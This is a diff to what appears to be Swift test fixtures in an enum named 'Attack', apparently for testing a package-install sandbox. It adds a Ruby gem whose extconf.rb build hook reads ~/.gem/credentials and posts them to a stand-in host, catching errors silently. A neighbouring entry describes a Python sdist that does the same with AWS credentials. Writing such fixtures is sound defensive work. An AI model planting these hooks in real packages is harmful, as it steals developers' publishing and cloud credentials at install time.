@@ -12,6 +12,20 @@ enum Attack {
         """,
     ]
 
+    /// A gem whose `extconf.rb` reads `~/.gem/credentials` and posts it.
+    static let gem = [
+        "gemspec": "s.extensions = ['ext/demo/extconf.rb']",
+        "ext/demo/extconf.rb": """
+        require "net/http"
+        begin
+          taken = File.read(File.join(Dir.home, ".gem", "credentials"))
+          Net::HTTP.post(URI("https://collect.example.invalid/"), taken)
+        rescue SystemCallError, SocketError
+        end
+        File.write("Makefile", "all:\\n\\ninstall:\\n\\nclean:\\n")
+        """,
+    ]
+
     /// An sdist whose `setup.py` reads `~/.aws/credentials` and posts it.
     static func sdist(_ name: String, _ version: String) -> [String: String] {
         [
